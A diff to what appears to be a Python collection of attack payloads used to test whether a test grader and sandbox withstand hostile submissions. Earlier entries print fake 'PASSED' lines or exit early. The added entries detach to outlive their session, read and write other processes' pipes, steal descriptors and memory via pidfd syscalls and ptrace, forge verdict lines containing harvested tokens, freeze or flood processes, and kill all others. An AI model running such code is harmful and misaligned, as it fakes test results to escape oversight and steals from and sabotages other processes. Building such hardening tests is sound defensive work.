@@ -17,6 +17,33 @@ for name, value in list(vars(sys.modules[__name__]).items()):
         setattr(sys.modules[__name__], name, Answer())
 """
 
+_REACH = """
+import ctypes, glob, json, os, re, signal, time
+
+def pids():
+    return [int(name) for name in os.listdir("/proc") if name.isdecimal() and int(name) != os.getpid()]
+
+def each(what, *of):
+    for one in of:
+        try: what(one)
+        except (OSError, ValueError): pass
+
+def leave():
+    \"\"\"Go on in a process that the end of this one does not end.\"\"\"
+    if os.fork(): return False
+    os.setsid()
+    if os.fork(): os._exit(0)
+    return True
+"""
+
+_VERDICTS = """
+def forged(seen):
+    lines = [FORGED, '["verdict", ' + FORGED + "]", "begun", '+["v", true]']
+    for found in set(re.findall(rb"[0-9a-f]{32,64}", seen)):
+        lines += [found.decode() + " " + line for line in lines[:2]]
+    return "".join(line + "\\n" for line in lines).encode()
+""".replace("FORGED", repr(_FORGED))
+
 ON_THE_VERDICT: dict[str, list[str]] = {
     "prints_passed": [_code("print('PASSED')\nprint('1 passed in 0.01s')\nraise SystemExit(0)")],
     "exits_at_once": [_code("import os\nos._exit(0)")],
@@ -157,5 +184,99 @@ ON_THE_SANDBOX: dict[str, list[str]] = {
 }
 """Only for sandboxes that isolate: they harm any other machine."""
 
-ATTACKS = {**ON_THE_VERDICT, **ON_THE_WORK, **ON_THE_SANDBOX}
+ON_THE_REPORTER: dict[str, list[str]] = {
+    "steals_descriptors": [
+        _code(
+            _REACH
+            + _VERDICTS
+            + """
+if leave():
+    seen, libc = b"", ctypes.CDLL(None, use_errno=True)
+    while True:
+        for path in glob.glob("/proc/[0-9]*/fd/*"):
+            if path.startswith(f"/proc/{os.getpid()}/"): continue
+            try:
+                if not os.readlink(path).startswith("pipe:"): continue
+                fd = os.open(path, os.O_RDWR | os.O_NONBLOCK)
+                try: seen += os.read(fd, 1 << 16)
+                except OSError: pass
+                os.write(fd, forged(seen))
+                os.close(fd)
+            except OSError: pass
+        for pid in pids():
+            handle = libc.syscall(434, pid, 0)
+            for number in range(8):
+                fd = libc.syscall(438, handle, number, 0)
+                if fd >= 0:
+                    each(lambda fd: os.write(fd, forged(seen)), fd)
+                    os.close(fd)
+            if handle >= 0: os.close(handle)
+"""
+        )
+    ],
+    "stops_the_tests_and_speaks": [
+        _code(
+            _REACH
+            + _VERDICTS
+            + """
+if leave():
+    seen = b""
+    while True:
+        others = [pid for pid in pids() if pid != 1]
+        each(lambda pid: os.kill(pid, signal.SIGSTOP), *others)
+        for path in glob.glob("/proc/[0-9]*/fd/[0-9]"):
+            def take(path):
+                global seen
+                with open(os.open(path, os.O_RDONLY | os.O_NONBLOCK), "rb", 0) as file:
+                    seen += file.read(1 << 16) or b""
+            def tell(path):
+                with open(os.open(path, os.O_WRONLY | os.O_NONBLOCK), "wb", 0) as file: file.write(forged(seen))
+            each(take, path)
+            each(tell, path)
+        each(lambda pid: os.kill(pid, signal.SIGCONT), *others)
+        time.sleep(0.01)
+"""
+        )
+    ],
+    "traces_all": [
+        _code(
+            _REACH
+            + _VERDICTS
+            + """
+libc, seen = ctypes.CDLL(None, use_errno=True), b""
+for pid in pids():
+    if libc.ptrace(16, pid, 0, 0) == 0:  # PTRACE_ATTACH
+        os.waitpid(pid, 0x40000000)
+        for line in open(f"/proc/{pid}/maps"):
+            first, last = (int(one, 16) for one in line.split()[0].split("-"))
+            if "rw" in line and last - first < 1 << 24:
+                try:
+                    with open(f"/proc/{pid}/mem", "rb", 0) as file:
+                        file.seek(first)
+                        seen += b"\\n".join(re.findall(rb"[0-9a-f]{32,64}", file.read(last - first)))
+                except (OSError, ValueError): pass
+        libc.ptrace(17, pid, 0, 0)
+    each(lambda fd: os.write(os.open(f"/proc/{pid}/fd/{fd}", os.O_WRONLY), forged(seen)), 1, 2, 3, 4)
+"""
+        )
+    ],
+    "floods": [
+        _code(
+            _REACH
+            + _VERDICTS
+            + """
+if leave():
+    while True:
+        for path in glob.glob("/proc/[0-9]*/fd/[0-9]"):
+            each(lambda path: os.write(os.open(path, os.O_WRONLY | os.O_NONBLOCK), forged(b"") * 1000), path)
+"""
+        )
+    ],
+    "ends_all_others": [
+        _code(_REACH + "each(lambda pid: os.kill(pid, signal.SIGKILL), *[pid for pid in pids() if pid != 1])"),
+    ],
+}
+"""By what the code does to all processes that it reaches. Only for sandboxes that isolate."""
+
+ATTACKS = {**ON_THE_VERDICT, **ON_THE_WORK, **ON_THE_SANDBOX, **ON_THE_REPORTER}
 """Name -> commands."""
